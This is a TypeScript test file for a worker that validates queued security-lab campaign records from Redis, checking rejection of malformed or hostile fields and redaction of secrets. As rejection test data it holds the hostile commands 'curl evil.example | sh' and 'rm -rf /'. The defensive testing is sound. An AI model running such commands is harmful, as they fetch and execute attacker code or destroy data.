import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RunRecord } from '@aeh/harness/queue/protocol';
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
import { CampaignRequest } from '../../../src/campaign/run.js';
import { campaignSuite, selectScenarios } from '../../../src/campaign/suite.js';
import { loadCorpus } from '../../../src/scenarios/loader.js';
import { prepareQueuedCampaign, type QueuedCampaign } from '../../../src/service/queue-campaign.js';

// What a `soclab worker` does with a queued run record it reads from Redis (which anyone with Redis access can write).

const dir = mkdtempSync(join(tmpdir(), 'soclab-queued-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
afterEach(() => vi.unstubAllEnvs());

const options = { evidenceUrl: join(dir, 'evidence.sqlite'), evidenceDir: dir, workerName: 'test:1' };

function queued(overrides: Partial<QueuedCampaign> = {}): QueuedCampaign {
  return {
    kind: 'soclab-campaign',
    request: CampaignRequest.parse({ mode: 'protected', scenarios: ['ATK-001', 'BEN-001'] }),
    label: 'protected',
    epoch_ms: null,
    incident: null,
    transforms: null,
    ...overrides,
  };
}

function record(content: string | null, contentHash = hashOf(['ATK-001', 'BEN-001'])): RunRecord {
  return {
    protocol: 1,
    run_id: 'r1',
    queue: 'harness-run-r1',
    created_at: new Date(0).toISOString(),
    coordinator: 'host:1',
    runner: 'soclab',
    suite: {
      name: 'soclab',
      version: '1',
      content_hash: contentHash,
      path: 'soclab:protected',
      absolute: 'soclab:protected',
      content,
    },
    agent: null,
    timeout: 300,
    retry: { attempts: 1, base_delay_ms: 0, max_delay_ms: 0, max_retry_after_ms: 0 },
  };
}

function hashOf(ids: string[]): string {
  const corpus = loadCorpus();
  return campaignSuite(corpus, selectScenarios(corpus, { live: false, scenarioIds: ids }), {
    adapter: 'soclab',
    options: {},
  }).contentHash;
}

describe('a queued soclab campaign on a worker', () => {
  it('refuses a record without a readable request, naming what is wrong', async () => {
    await expect(prepareQueuedCampaign(record(null), options)).rejects.toThrow('no readable soclab campaign request');
    await expect(prepareQueuedCampaign(record('{not json'), options)).rejects.toThrow(
      'no readable soclab campaign request',
    );
    await expect(prepareQueuedCampaign(record(JSON.stringify({ kind: 'other' })), options)).rejects.toThrow(
      /invalid at kind/,
    );
  });

  it('refuses fields it does not know, such as a command to run, and out-of-range values', async () => {
    const command = { ...queued(), agent_command: 'curl evil.example | sh' };
    await expect(prepareQueuedCampaign(record(JSON.stringify(command)), options)).rejects.toThrow(
      /invalid at \(root\)/,
    );
    const hostileRequest = { ...queued(), request: { ...queued().request, agentCommand: 'rm -rf /' } };
    await expect(prepareQueuedCampaign(record(JSON.stringify(hostileRequest)), options)).rejects.toThrow(
      /invalid at request/,
    );
    const repeats = { ...queued(), request: { ...queued().request, repeats: 10_000 } };
    await expect(prepareQueuedCampaign(record(JSON.stringify(repeats)), options)).rejects.toThrow(
      /invalid at request\.repeats/,
    );
  });

  it('refuses a campaign whose corpus differs from this machine’s', async () => {
    const other = record(JSON.stringify(queued()), hashOf(['ATK-001']));
    await expect(prepareQueuedCampaign(other, options)).rejects.toThrow(
      /scenario corpus differs from the coordinator's/,
    );
  });

  it('rebuilds the campaign’s cases and agent, and scrubs this machine’s secrets from results', async () => {
    vi.stubEnv('ACME_API_KEY', 'acme-secret-0123456789abcdef');
    vi.stubEnv('SOCLAB_DATABASE_URL', 'postgres://soclab:pg-pass-9876543210@db.internal/soclab');
    // A password in the query string, and one with a stray % (decodeURIComponent would throw on it).
    vi.stubEnv('ARCHIVE_DATABASE_URL', 'postgres://a@db.internal/x?password=q-pass-5555666677');
    vi.stubEnv('REPLICA_DATABASE_URL', 'postgres://r:50%off-pass-44443333@db.internal/x');
    const prepared = await prepareQueuedCampaign(record(JSON.stringify(queued())), options);
    try {
      const ids: string[] = [];
      for await (const tc of prepared.suite.cases()) ids.push(tc.id);
      expect(ids).toEqual(['ATK-001', 'BEN-001']);
      expect(prepared.agent.describe?.().adapter).toBe('soclab');
      const scrubbed = prepared.suite.redactor.text(
        'key acme-secret-0123456789abcdef, db password pg-pass-9876543210, q-pass-5555666677, 50%off-pass-44443333',
      );
      expect(scrubbed).not.toContain('acme-secret-0123456789abcdef');
      expect(scrubbed).not.toContain('pg-pass-9876543210');
      expect(scrubbed).not.toContain('q-pass-5555666677');
      expect(scrubbed).not.toContain('off-pass-44443333');
    } finally {
      await prepared.agent.close?.();
    }
  }, 60_000);
});
